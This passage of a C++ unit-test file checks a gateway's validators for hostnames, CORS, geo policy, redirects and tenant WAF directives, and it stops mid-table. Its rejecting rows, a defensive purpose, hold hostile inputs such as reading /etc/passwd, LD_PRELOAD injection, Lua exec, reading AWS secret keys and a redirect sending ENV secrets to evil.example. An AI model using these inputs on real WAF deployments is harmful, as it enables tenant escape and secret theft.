@@ -1,0 +1,668 @@
+// Table tests of the field rules (CONTRACT.md section 3): for each rule, rows it accepts and rows it
+// rejects with the reason. The WAF directive tables include one rejecting row per tenant-escape.
+#include <doctest/doctest.h>
+
+#include <rapidjson/document.h>
+
+#include <chrono>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "commands/fields.h"
+
+namespace gw::fields {
+namespace {
+
+struct Ok {
+  std::string in;
+};
+
+struct Bad {
+  std::string in;
+  std::string why;  // a part of the expected message
+};
+
+void expect_ok(const Problem& p) { CHECK_MESSAGE(!p.has_value(), p.value_or("")); }
+
+void expect_bad(const Problem& p, const std::string& why) {
+  CHECK(p.has_value());
+  if (p) CHECK_MESSAGE(p->find(why) != std::string::npos, *p);
+}
+
+rapidjson::Document json(const std::string& text) {
+  rapidjson::Document doc;
+  doc.Parse<rapidjson::kParseIterativeFlag>(text.c_str());
+  REQUIRE_FALSE(doc.HasParseError());
+  return doc;
+}
+
+std::string repeat(const std::string& s, size_t n) {
+  std::string out;
+  for (size_t i = 0; i < n; ++i) out += s;
+  return out;
+}
+
+std::string join(const std::vector<std::string>& items, const std::string& sep) {
+  std::string out;
+  for (size_t i = 0; i < items.size(); ++i) out += (i ? sep : "") + items[i];
+  return out;
+}
+
+// `n` WAF rules of the kind tenants write, ids 1..n.
+std::string many_rules(int n) {
+  std::string out = "# tenant rules\n";
+  for (int i = 1; i <= n; ++i) {
+    auto id = std::to_string(i);
+    out += "SecRule ARGS|REQUEST_HEADERS:User-Agent \"@rx (?i)bad" + id + "\\w+\" \\\n    \"id:" + id +
+           ",phase:2,deny,status:403,t:none,t:lowercase,msg:'rule " + id + "',tag:'tenant'\"\n";
+  }
+  return out;
+}
+
+TEST_CASE("hostname accepts and normalizes") {
+  struct Row {
+    std::string in;
+    std::string want;
+  };
+  const std::string l63(63, 'a');
+  const std::string n253 = l63 + "." + l63 + "." + l63 + "." + std::string(61, 'd');
+  const Row rows[] = {
+      {"example.com", "example.com"},
+      {"Shop.Example.COM.", "shop.example.com"},
+      {"a.b.c.example.co.uk", "a.b.c.example.co.uk"},
+      {"xn--bcher-kva.example", "xn--bcher-kva.example"},
+      {"example.xn--p1ai", "example.xn--p1ai"},
+      {"a-b.1c.example.com", "a-b.1c.example.com"},
+      {"123.example.com", "123.example.com"},
+      {l63 + ".com", l63 + ".com"},
+      {n253, n253},
+      {n253 + ".", n253},
+  };
+  for (const auto& r : rows) {
+    CAPTURE(r.in);
+    std::string out;
+    expect_ok(hostname(r.in, &out));
+    CHECK(out == r.want);
+  }
+}
+
+TEST_CASE("hostname rejects") {
+  const std::string l63(63, 'a');
+  const Bad rows[] = {
+      {"", "must not be empty"},
+      {".", "must not be empty"},
+      {"localhost", "at least two labels"},
+      {"com.", "at least two labels"},
+      {"a..example.com", "empty labels"},
+      {".example.com", "empty labels"},
+      {"example.com..", "empty labels"},
+      {"-a.example.com", "hyphen"},
+      {"a-.example.com", "hyphen"},
+      {"a_b.example.com", "letters, digits, hyphens"},
+      {"exa mple.com", "letters, digits, hyphens"},
+      {"example.com/path", "letters, digits, hyphens"},
+      {"*.example.com", "wildcards"},
+      {"a.*.example.com", "wildcards"},
+      {"1.2.3.4", "not an IP address"},
+      {"1.2.3.4.", "not an IP address"},
+      {"example.123", "not an IP address"},
+      {"[::1]", "not an IP address"},
+      {"::1", "not an IP address"},
+      {"example.com:443", "host:port"},
+      {"b\xc3\xbc" "cher.example", "ASCII"},
+      {std::string(64, 'a') + ".com", "63 bytes"},
+      {l63 + "." + l63 + "." + l63 + "." + std::string(62, 'd'), "253 bytes"},
+  };
+  for (const auto& r : rows) {
+    CAPTURE(r.in);
+    std::string out = "unchanged";
+    expect_bad(hostname(r.in, &out), r.why);
+    CHECK(out == "unchanged");
+  }
+}
+
+TEST_CASE("is_at_or_under") {
+  struct Row {
+    std::string name;
+    std::string zone;
+    bool want;
+  };
+  const Row rows[] = {
+      {"example.com", "example.com", true},      {"shop.example.com", "example.com", true},
+      {"a.b.example.com", "example.com", true},  {"badexample.com", "example.com", false},
+      {"example.com", "shop.example.com", false}, {"example.com.evil.net", "example.com", false},
+      {"xample.com", "example.com", false},      {"example.com", "", false},
+  };
+  for (const auto& r : rows) {
+    CAPTURE(r.name);
+    CAPTURE(r.zone);
+    CHECK(is_at_or_under(r.name, r.zone) == r.want);
+  }
+}
+
+TEST_CASE("cors_origins") {
+  const Ok ok[] = {
+      {""},
+      {"*"},
+      {"https://example.com"},
+      {"http://localhost"},
+      {"http://localhost:3000"},
+      {"http://127.0.0.1:8080"},
+      {"https://example.com:65535"},
+      {"https://xn--bcher-kva.example"},
+      {"https://a.example.com,https://b.example.com"},
+      {"https://a.example.com, https://b.example.com ,\thttp://c.example.com"},
+  };
+  for (const auto& r : ok) {
+    CAPTURE(r.in);
+    expect_ok(cors_origins(r.in));
+  }
+  const Bad bad[] = {
+      {"*, https://a.example.com", "* alone"},
+      {"https://a.example.com,,https://b.example.com", "empty items"},
+      {"https://a.example.com,", "empty items"},
+      {" , ", "empty items"},
+      {"example.com", "http:// or https://"},
+      {"ftp://example.com", "http:// or https://"},
+      {"HTTPS://example.com", "http:// or https://"},
+      {"https://example.com/", "no path"},
+      {"https://example.com/app", "no path"},
+      {"https://example.com?x=1", "no path"},
+      {"https://user@example.com", "userinfo"},
+      {"https://example.com:0", "1-65535"},
+      {"https://example.com:65536", "1-65535"},
+      {"https://example.com:080", "1-65535"},
+      {"https://example.com:", "1-65535"},
+      {"https://Example.com", "lower case"},
+      {"https://example.com.", "lower case"},
+      {"https://[::1]:8080", "hostnames, IPv4 addresses or localhost"},
+      {"https://[::1]", "hostnames, IPv4 addresses or localhost"},
+      {"http://intranet", "at least two labels"},
+      {"https://256.1.1.1", "not an IP address"},
+      {"https://*.example.com", "wildcards"},
+      {"https://a.example.com https://b.example.com", "separate origins with commas"},
+      {"https://a.example.com, https://a.example.com", "repeat"},
+      {"https://" + std::string(4090, 'a') + ".com", "4096 bytes"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    expect_bad(cors_origins(r.in), r.why);
+  }
+}
+
+TEST_CASE("cors_methods") {
+  for (const auto& r : {Ok{""}, Ok{"GET"}, Ok{"GET,POST"}, Ok{"GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"}}) {
+    CAPTURE(r.in);
+    expect_ok(cors_methods(r.in));
+  }
+  const Bad bad[] = {
+      {"get", "upper case"},       {"CONNECT", "GET, HEAD"},     {"TRACE", "GET, HEAD"},
+      {"GET;POST", "GET, HEAD"},   {"GET,,POST", "empty items"}, {"GET,", "empty items"},
+      {"GET, GET", "repeat"},      {repeat("GET,", 1024) + "GET", "4096 bytes"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    expect_bad(cors_methods(r.in), r.why);
+  }
+}
+
+TEST_CASE("cors_headers") {
+  const Ok ok[] = {{""}, {"Content-Type"}, {"content-type, x-requested-with"}, {"X-Custom_Header.1"}, {"*"},
+                   {"Authorization,X-Api-Key"}, {"x-!#$%&'*+-.^_`|~"}};
+  for (const auto& r : ok) {
+    CAPTURE(r.in);
+    expect_ok(cors_headers(r.in));
+  }
+  const Bad bad[] = {
+      {"Content Type", "RFC 9110 tokens"}, {"X-(bad)", "RFC 9110 tokens"},  {"x:y", "RFC 9110 tokens"},
+      {"x-\xc3\xa4", "RFC 9110 tokens"},    {"a,,b", "empty items"},          {"a,", "empty items"},
+      {"Content-Type, content-type", "repeat"}, {std::string(4097, 'x'), "4096 bytes"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    expect_bad(cors_headers(r.in), r.why);
+  }
+}
+
+TEST_CASE("geo_policy") {
+  const Ok ok[] = {
+      {"null"},
+      {R"({"mode":"allow","countries":["US"]})"},
+      {R"({"countries":["DE","FR","GB","AX","SS","BQ","ZW"],"mode":"block"})"},
+  };
+  for (const auto& r : ok) {
+    CAPTURE(r.in);
+    expect_ok(geo_policy(json(r.in)));
+  }
+  std::vector<std::string> codes;
+  for (char a = 'A'; a <= 'Z'; ++a) {
+    for (char b = 'A'; b <= 'Z'; ++b) codes.push_back(std::string("\"") + a + b + "\"");
+  }
+  const std::string too_many = R"({"mode":"allow","countries":[)" + join(std::vector<std::string>(codes.begin(), codes.begin() + 251), ",") + "]}";
+  const Bad bad[] = {
+      {"[]", "null or an object"},
+      {R"("US")", "null or an object"},
+      {"{}", "missing member \"mode\""},
+      {R"({"mode":"allow"})", "missing member \"countries\""},
+      {R"({"mode":"allow","countries":["US"],"extra":1})", "unknown member \"extra\""},
+      {R"({"mode":"allow","mode":"block","countries":["US"]})", "duplicate member \"mode\""},
+      {R"({"mode":"ALLOW","countries":["US"]})", "allow, block"},
+      {R"({"mode":1,"countries":["US"]})", "allow, block"},
+      {R"({"mode":"allow","countries":"US"})", "must be an array"},
+      {R"({"mode":"allow","countries":[]})", "1-250"},
+      {too_many, "1-250"},
+      {R"({"mode":"allow","countries":["us"]})", "countries[0] must be an assigned"},
+      {R"({"mode":"allow","countries":["US","ZZ"]})", "countries[1] must be an assigned"},
+      {R"({"mode":"allow","countries":["UK"]})", "assigned"},
+      {R"({"mode":"allow","countries":["EU"]})", "assigned"},
+      {R"({"mode":"allow","countries":["USA"]})", "assigned"},
+      {R"({"mode":"allow","countries":[1]})", "assigned"},
+      {R"({"mode":"allow","countries":["US","DE","US"]})", "countries[2] repeats US"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    expect_bad(geo_policy(json(r.in)), r.why);
+  }
+}
+
+TEST_CASE("waf_overrides") {
+  std::vector<std::string> members;
+  for (int i = 0; i < 256; ++i) members.push_back("\"k" + std::to_string(i) + "\":" + std::to_string(i));
+  const std::string m256 = "{" + join(members, ",") + "}";
+  const std::string m257 = "{" + join(members, ",") + ",\"one_more\":1}";
+  const std::string split257 = "{\"a\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 128), ",") +
+                               "},\"b\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 127), ",") + "}}";
+  const Ok ok[] = {
+      {"null"},
+      {"{}"},
+      {R"({"rules":{"942100":"off"},"paths":["/a",{"x":[1,2]}]})"},
+      {repeat("{\"a\":", 7) + "{}" + repeat("}", 7)},
+      {"{\"a\":[[[[[[[1]]]]]]]}"},
+      {m256},
+  };
+  for (const auto& r : ok) {
+    CAPTURE(r.in);
+    expect_ok(waf_overrides(json(r.in)));
+  }
+  const Bad bad[] = {
+      {"[]", "null or an object"},
+      {"1", "null or an object"},
+      {R"("x")", "null or an object"},
+      {repeat("{\"a\":", 8) + "{}" + repeat("}", 8), "8 levels"},
+      {"{\"a\":[[[[[[[[1]]]]]]]]}", "8 levels"},
+      {m257, "256 members"},
+      {split257, "256 members"},
+      {repeat("{\"a\":", 100000) + "1" + repeat("}", 100000), "8 levels"},
+      {"{\"a\":" + repeat("[", 100000) + repeat("]", 100000) + "}", "8 levels"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in.substr(0, 60));
+    expect_bad(waf_overrides(json(r.in)), r.why);
+  }
+}
+
+TEST_CASE("waf_rule_exclusions") {
+  const std::string entry = R"({"path_prefix":"/api/","remove_rule_ids":[942100]})";
+  std::vector<std::string> ids;
+  for (int i = 1; i <= 257; ++i) ids.push_back(std::to_string(i));
+  const Ok ok[] = {
+      {"null"},
+      {"[]"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[1]}])"},
+      {R"([{"remove_rule_ids":[942100,99999999],"path_prefix":"/api/v1/%7Euser"}])"},
+      {"[" + join(std::vector<std::string>(256, entry), ",") + "]"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[)" + join(std::vector<std::string>(ids.begin(), ids.begin() + 256), ",") + "]}]"},
+  };
+  for (const auto& r : ok) {
+    CAPTURE(r.in.substr(0, 80));
+    expect_ok(waf_rule_exclusions(json(r.in)));
+  }
+  const Bad bad[] = {
+      {"{}", "null or an array"},
+      {R"("x")", "null or an array"},
+      {"[" + join(std::vector<std::string>(257, entry), ",") + "]", "at most 256 entries"},
+      {"[1]", "[0] must be an object"},
+      {R"([{"path_prefix":"/"}])", "[0] is missing member \"remove_rule_ids\""},
+      {R"([{"path_prefix":"/","remove_rule_ids":[1],"x":1}])", "unknown member \"x\""},
+      {R"([{"path_prefix":"/","path_prefix":"/a","remove_rule_ids":[1]}])", "duplicate member"},
+      {R"([{"path_prefix":1,"remove_rule_ids":[1]}])", "path_prefix must be a string"},
+      {R"([{"path_prefix":"api/","remove_rule_ids":[1]}])", "start with '/'"},
+      {R"([{"path_prefix":"","remove_rule_ids":[1]}])", "start with '/'"},
+      {R"([{"path_prefix":"/a b","remove_rule_ids":[1]}])", "spaces or control"},
+      {R"([{"path_prefix":"/a\u0001","remove_rule_ids":[1]}])", "spaces or control"},
+      {R"([{"path_prefix":"/)" + std::string(1024, 'a') + R"(","remove_rule_ids":[1]}])", "1024 bytes"},
+      {R"([{"path_prefix":"/","remove_rule_ids":"1"}])", "must be an array"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[]}])", "1-256"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[)" + join(ids, ",") + "]}]", "1-256"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[0]}])", "remove_rule_ids[0] must be an integer in 1..99999999"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[1,100000000]}])", "remove_rule_ids[1]"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[-1]}])", "1..99999999"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[1.5]}])", "1..99999999"},
+      {R"([{"path_prefix":"/","remove_rule_ids":[1.0]}])", "1..99999999"},
+      {R"([{"path_prefix":"/","remove_rule_ids":["1"]}])", "1..99999999"},
+      {entry.substr(0, 0) + "[" + entry + R"(,{"path_prefix":"x","remove_rule_ids":[1]}])", "[1].path_prefix"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in.substr(0, 80));
+    expect_bad(waf_rule_exclusions(json(r.in)), r.why);
+  }
+}
+
+TEST_CASE("is_registrable_domain") {
+  struct Row {
+    std::string host;
+    bool want;
+  };
+  const Row rows[] = {
+      {"example.com", true},   {"shop.example.com", false}, {"example.co.uk", true}, {"co.uk", false},
+      {"com", false},          {"foo.github.io", true},     {"github.io", false},    {"", false},
+      {"a.b.example.co.uk", false},
+  };
+  for (const auto& r : rows) {
+    CAPTURE(r.host);
+    CHECK(is_registrable_domain(r.host) == r.want);
+  }
+}
+
+TEST_CASE("opaque_id") {
+  for (const auto& r : {Ok{"team_demo"}, Ok{"a"}, Ok{std::string(128, 'x')}, Ok{"\xc3\xbcnic\xc3\xb8" "de id"}, Ok{"wl/42:a"}}) {
+    CAPTURE(r.in);
+    expect_ok(opaque_id(r.in, 128));
+  }
+  const Bad bad[] = {
+      {"", "must not be empty"},
+      {std::string(129, 'x'), "at most 128 bytes"},
+      {"a\tb", "control characters"},
+      {"a\nb", "control characters"},
+      {"a\x7f", "control characters"},
+      {"a\xc2\x85" "b", "control characters"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    expect_bad(opaque_id(r.in, 128), r.why);
+  }
+}
+
+TEST_CASE("redirect_to") {
+  const Ok ok[] = {
+      {""},
+      {"example.com"},
+      {"Example.COM."},
+      {"https://example.com"},
+      {"http://example.com:8080/path?q=1#frag"},
+      {"https://shop.example.com/a/b/"},
+      {"https://example.com?x=1"},
+      {"https://example.com/" + std::string(2028, 'a')},
+  };
+  for (const auto& r : ok) {
+    CAPTURE(r.in);
+    expect_ok(redirect_to(r.in));
+  }
+  const Bad bad[] = {
+      {"http://", "URL host must not be empty"},
+      {"ftp://example.com", "http:// or https://"},
+      {"HTTPS://example.com", "http:// or https://"},
+      {"javascript:alert(1)", "hostname or an http"},
+      {"//evil.example", "hostname or an http"},
+      {"example.com/path", "hostname or an http"},
+      {"localhost", "hostname or an http"},
+      {"https://user@example.com", "userinfo"},
+      {"https://1.2.3.4/", "not an IP address"},
+      {"https://[::1]/", "not IP addresses"},
+      {"https://example.com:0/", "1-65535"},
+      {"https://example.com:99999", "1-65535"},
+      {"https://exa mple.com", "spaces"},
+      {"https://example.com/\x01", "control"},
+      {"https://example.com\\@evil.example", "backslashes"},
+      {"https://*.example.com/", "wildcards"},
+      {"https://example.com/" + std::string(2029, 'a'), "2048 bytes"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    expect_bad(redirect_to(r.in), r.why);
+  }
+}
+
+TEST_CASE("waf_directives accepts tenant rules") {
+  const Ok ok[] = {
+      {""},
+      {"# only a comment\n\n   # another\n"},
+      {R"(SecRule ARGS "@rx foo" "id:1,phase:2,deny,status:403")"},
+      {R"(SecRule REQUEST_URI "@beginsWith /admin" "id:99999,phase:request,deny")"},
+      {R"(SecRule ARGS "@rx a" "id:'7',phase:'2',block")"},
+      {R"(secrule ARGS "!@rx ^[a-z]+$" "id:2,phase:1,deny")"},
+      {R"(SecRule &ARGS "@eq 0" "id:3,phase:2,pass,nolog")"},
+      {R"(SecRule ARGS|!ARGS:password|REQUEST_HEADERS:User-Agent "@detectSQLi" "id:4,deny,log,auditlog")"},
+      {R"(SecRule REMOTE_ADDR "@ipMatch 10.0.0.0/8,192.168.1.1" "id:5,allow")"},
+      {R"(SecRule ARGS "@pm select union insert" "id:6,deny,t:none,t:lowercase,t:urlDecodeUni")"},
+      {R"(SecRule ARGS "@validateByteRange 9,10,13,32-126" "id:7,deny")"},
+      {R"(SecRule REQUEST_HEADERS:Content-Type "@rx ^[\w/.+-]+(?:\s?;\s?charset\s?=\s?['\"\w.()+,/:=?<>@#*-]+)*$" "id:8,deny")"},
+      {R"(SecRule ARGS "@rx a" "id:9,deny,msg:'Bad, very bad',tag:'a,b',logdata:'%{MATCHED_VAR}',severity:2")"},
+      {"SecRule ARGS \"@rx a\" \"id:10,pass,setvar:tx.score=+5,setvar:'tx.msg=%{MATCHED_VAR}',setvar:!tx.old,expirevar:tx.score=60\""},
+      {"SecRule ARGS \"@rx a\" \"id:11,pass,ctl:ruleRemoveById=100-200,ctl:ruleRemoveTargetById=12;ARGS:pw,ctl:requestBodyProcessor=JSON\""},
+      {"SecRule REQUEST_HEADERS:Host \"@streq a.example.com\" \"id:12,phase:1,deny,chain\"\n"
+       "  SecRule ARGS:x \"@rx y\" \"t:none,chain\"\n"
+       "  SecRule ARGS:z \"@rx w\""},
+      {"SecRule ARGS \"@rx a\" \"id:13,phase:2,pass,skipAfter:END_TENANT\"\nSecAction \"id:14,phase:2,deny\"\nSecMarker END_TENANT"},
+      {"SecAction \"id:15,phase:1,pass,nolog,setvar:tx.limit=10\"\nSecMarker \"END_15\""},
+      {"SecRule ARGS \"@rx a\" \"id:16,deny\"\nSecRuleRemoveById 16 20-30 99999"},
+      {"SecRuleUpdateTargetById 16 \"!ARGS:password\"\nSecRuleUpdateTargetById 17 !ARGS:token"},
+      {"SecRuleUpdateActionById 16 \"pass,nolog\""},
+      {"SecRule ARGS \"@rx a\" \\\n    \"id:17,\\\n    deny\"\r\nSecAction \"id:18,pass\"\r\n"},
+      {many_rules(100)},
+  };
+  for (const auto& r : ok) {
+    CAPTURE(r.in.substr(0, 120));
+    expect_ok(waf_directives(r.in));
+  }
+}
+
+TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
+  const Bad bad[] = {
+      // Directives outside the allow-list.
+      {"Include /etc/passwd", "directive Include is not allowed in tenant rules (line 1)"},
+      {"# rules\n\ninclude \"/etc/modsecurity/*.conf\"", "directive include is not allowed in tenant rules (line 3)"},
+      {"SecRemoteRules key https://rules.example/r.conf", "directive SecRemoteRules"},
+      {"SecRemoteRulesFailAction Abort", "directive SecRemoteRulesFailAction"},
+      {"SecRuleEngine Off", "directive SecRuleEngine"},
+      {"SecAuditEngine Off", "directive SecAuditEngine"},
+      {"SecAuditLog /tmp/audit.log", "directive SecAuditLog"},
+      {"SecAuditLogParts ABCZ", "directive SecAuditLogParts"},
+      {"SecAuditLogStorageDir /tmp", "directive SecAuditLogStorageDir"},
+      {"SecDataDir /tmp", "directive SecDataDir"},
+      {"SecTmpDir /tmp", "directive SecTmpDir"},
+      {"SecUploadDir /tmp", "directive SecUploadDir"},
+      {"SecChrootDir /", "directive SecChrootDir"},
+      {"SecDebugLog /tmp/debug.log", "directive SecDebugLog"},
+      {"SecDebugLogLevel 9", "directive SecDebugLogLevel"},
+      {"SecDefaultAction \"phase:2,deny,log\"", "directive SecDefaultAction"},
+      {"SecRuleRemoveByTag OWASP_CRS", "directive SecRuleRemoveByTag"},
+      {"SecRuleRemoveByMsg SQL", "directive SecRuleRemoveByMsg"},
+      {"SecRuleUpdateTargetByTag OWASP_CRS !ARGS:x", "directive SecRuleUpdateTargetByTag"},
+      {"SecRuleUpdateTargetByMsg SQL !ARGS:x", "directive SecRuleUpdateTargetByMsg"},
+      {"SecRequestBodyAccess Off", "directive SecRequestBodyAccess"},
+      {"SecRequestBodyLimit 1", "directive SecRequestBodyLimit"},
+      {"SecArgumentSeparator ;", "directive SecArgumentSeparator"},
+      {"SecUnicodeMapFile unicode.mapping 20127", "directive SecUnicodeMapFile"},
+      {"SecGeoLookupDb /usr/share/GeoIP/GeoIP.dat", "directive SecGeoLookupDb"},
+      {"SecRuleScript /tmp/x.lua \"id:1\"", "directive SecRuleScript"},
+      {"SecComponentSignature \"x\"", "directive SecComponentSignature"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny\"\nSecRulee ARGS", "directive SecRulee is not allowed in tenant rules (line 2)"},
+      // Operators that read files or look things up on the network.
+      {R"(SecRule REMOTE_ADDR "@ipMatchFromFile /etc/hosts" "id:1,deny")", "operator @ipMatchFromFile"},
+      {R"(SecRule REMOTE_ADDR "@ipMatchF /etc/hosts" "id:1,deny")", "operator @ipMatchF"},
+      {R"(SecRule ARGS "@pmFromFile /etc/passwd" "id:1,deny")", "operator @pmFromFile"},
+      {R"(SecRule ARGS "@pmf https://evil.example/list" "id:1,deny")", "operator @pmf"},
+      {R"(SecRule ARGS "!@PMFROMFILE /etc/passwd" "id:1,deny")", "operator @PMFROMFILE"},
+      {R"(SecRule FILES_TMPNAMES "@inspectFile /bin/sh" "id:1,deny")", "operator @inspectFile"},
+      {R"(SecRule ARGS "@fuzzyHash /etc/ssdeep.txt 10" "id:1,deny")", "operator @fuzzyHash"},
+      {R"(SecRule XML "@validateDTD /etc/x.dtd" "id:1,deny")", "operator @validateDTD"},
+      {R"(SecRule XML "@validateSchema /etc/x.xsd" "id:1,deny")", "operator @validateSchema"},
+      {R"(SecRule REMOTE_ADDR "@rbl sbl.example" "id:1,deny")", "operator @rbl"},
+      {R"(SecRule ARGS "@gsbLookup x" "id:1,deny")", "operator @gsbLookup"},
+      // Actions.
+      {R"(SecRule ARGS "@rx a" "id:1,deny,exec:/tmp/x.lua")", "action exec"},
+      {R"(SecAction "id:1,pass,setenv:LD_PRELOAD=/tmp/x.so")", "action setenv"},
+      {R"(SecAction "id:1,pass,ctl:ruleEngine=Off")", "ctl:ruleEngine is not allowed"},
+      {R"(SecAction "id:1,pass,ctl:auditEngine=Off")", "ctl:auditEngine"},
+      {R"(SecAction "id:1,pass,ctl:auditLogParts=+E")", "ctl:auditLogParts"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveByTag=OWASP_CRS")", "ctl:ruleRemoveByTag"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:x")", "ctl:ruleRemoveTargetByTag"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveById=942100")", "ctl:ruleRemoveById may only name rule ids in 1..99999"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveById=1-100000")", "ctl:ruleRemoveById"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetById=942100;ARGS:x")", "ctl:ruleRemoveTargetById"},
+      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetById=5;ENV:PATH")", "variable ENV"},
+      {R"(SecAction "id:1,pass,initcol:ip=%{REMOTE_ADDR}")", "action initcol"},
+      {R"(SecAction "id:1,pass,setsid:%{REQUEST_COOKIES.sid}")", "action setsid"},
+      {R"(SecAction "id:1,pass,setuid:%{ARGS.user}")", "action setuid"},
+      {R"(SecAction "id:1,pass,setrsc:x")", "action setrsc"},
+      {R"(SecAction "id:1,pass,setvar:ip.blocked=1")", "setvar may only change TX variables"},
+      {R"(SecAction "id:1,pass,setvar:'global.x=1'")", "setvar may only change TX"},
+      {R"(SecAction "id:1,pass,expirevar:ip.blocked=10")", "expirevar may only change TX"},
+      {R"(SecAction "id:1,pass,deprecatevar:session.x=1/2")", "deprecatevar may only change TX"},
+      {R"(SecAction "id:1,pass,proxy:http://x")", "action proxy"},
+      {R"(SecAction "id:1,pass,pause:5000")", "action pause"},
+      {R"(SecAction "id:1,pass,bogus")", "action bogus"},
+      // Ids.
+      {R"(SecRule ARGS "@rx a" "deny")", "needs an id in 1..99999 on every rule (line 1)"},
+      {R"(SecRule ARGS "@rx a")", "needs an id"},
+      {R"(SecAction "pass")", "needs an id"},
+      {R"(SecRule ARGS "@rx a" "id:0,deny")", "rule ids in 1..99999"},
+      {R"(SecRule ARGS "@rx a" "id:100000,deny")", "rule ids in 1..99999"},
+      {R"(SecRule ARGS "@rx a" "id:942100,deny")", "rule ids in 1..99999"},
+      {R"(SecRule ARGS "@rx a" "id:-1,deny")", "rule ids in 1..99999"},
+      {R"(SecRule ARGS "@rx a" "id:1,id:2,deny")", "one id only"},
+      {"SecRule ARGS \"@rx a\" \"id:5,deny\"\nSecAction \"id:5,pass\"", "uses rule id 5 twice (line 2)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecRule ARGS \"@rx b\" \"id:2\"", "must not give an id to a chained"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"", "needs a SecRule after the chained rule (line 1)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecAction \"id:2,pass\"", "needs a SecRule after the chained rule of line 1 (line 2)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecMarker END", "needs a SecRule after the chained rule"},
+      {R"(SecAction "id:1,pass,chain")", "must not chain a SecAction"},
+      {"SecRuleRemoveById 942100", "SecRuleRemoveById may only name rule ids in 1..99999"},
+      {"SecRuleRemoveById 1 2 90000-100000", "SecRuleRemoveById may only name"},
+      {"SecRuleRemoveById 5-1", "SecRuleRemoveById may only name"},
+      {"SecRuleRemoveById \"5\"", "SecRuleRemoveById may only name"},
+      {"SecRuleRemoveById 5,900000", "SecRuleRemoveById may only name"},
+      {"SecRuleRemoveById 5 # 900000", "SecRuleRemoveById may only name"},
+      {"SecRuleRemoveById", "needs SecRuleRemoveById ID"},
+      {"SecRuleUpdateTargetById 942100 !ARGS:x", "may only name rule ids in 1..99999"},
+      {"SecRuleUpdateTargetById 1-5 !ARGS:x", "may only name rule ids"},
+      {"SecRuleUpdateActionById 942100 \"pass\"", "may only name rule ids in 1..99999"},
+      {"SecRuleUpdateActionById 5 \"id:6\"", "must not change ids"},
+      {"SecRuleUpdateActionById 5 \"chain\"", "must not add chain"},
+      {"SecRuleUpdateActionById 5 \"exec:/tmp/x.lua\"", "action exec"},
+      {"SecRuleUpdateActionById 5", "needs SecRuleUpdateActionById ID ACTIONS"},
+      // ENV and other shared state.
+      {R"(SecRule ENV:AWS_SECRET_ACCESS_KEY "@rx ." "id:1,deny")", "variable ENV"},
+      {R"(SecRule ARGS|env "@rx ." "id:1,deny")", "variable ENV"},
+      {R"(SecRule ARGS "@rx ." "id:1,redirect:https://evil.example/?k=%{ENV.SECRET}")", "variable ENV"},
+      {R"(SecRule ARGS "@streq %{env.HOME}" "id:1,deny")", "variable ENV"},
+      {"SecRuleUpdateTargetById 5 ENV", "variable ENV"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,skipAfter:PLATFORM_END")", "needs skipAfter to name a SecMarker of these directives (line 1)"},
+      // Values the engine mishandles (crash or out-of-bounds write).
+      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:99999999999")", "needs phase 1-5"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:0")", "needs phase 1-5"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:6")", "needs phase 1-5"},
+      {R"(SecRule ARGS "@validateByteRange 300" "id:1,deny")", "@validateByteRange with bytes"},
+      {R"(SecRule ARGS "@validateByteRange 32-256" "id:1,deny")", "@validateByteRange with bytes"},
+      {R"(SecRule ARGS "@validateByteRange 126-32" "id:1,deny")", "@validateByteRange with bytes"},
+      {R"(SecRule ARGS "@validateByteRange" "id:1,deny")", "@validateByteRange with bytes"},
+      // Syntax where the engine's lexer and a plain tokenizer could disagree.
+      {R"(SecRule ARGS "\" deny Include /etc/hostname " "id:1")", "escaped quote"},
+      {R"(SecRule ARGS "@rx \"" "id:1,deny")", "escaped quote"},
+      {R"(SecRule ARGS "@rx %{tx.a}\"" "id:1,deny")", "escaped quote"},
+      {R"(SecAction "id:1,pass,msg:'\\',setenv:X=1,tag:'a'")", "escaped quotes in actions"},
+      {R"(SecAction "id:1,pass,msg:'it\'s'")", "escaped quotes in actions"},
+      {R"(SecAction "id:1,pass,msg:'a \"b\"'")", "escaped quotes in actions"},
+      {R"(SecRule "ARGS:\"x\"" "@rx a" "id:1,deny")", "escaped quotes in variables"},
+      {R"(SecAction "id:1,pass,msg:it's,setenv:X=1")", "quote whole action values"},
+      {R"(SecAction "id:1,pass,msg:'unterminated")", "unterminated quoted action value"},
+      {R"(SecAction "id:1,pass,msg:'a'b")", "text after a quoted action value"},
+      {R"(SecAction "id:1,pass,,deny")", "empty action"},
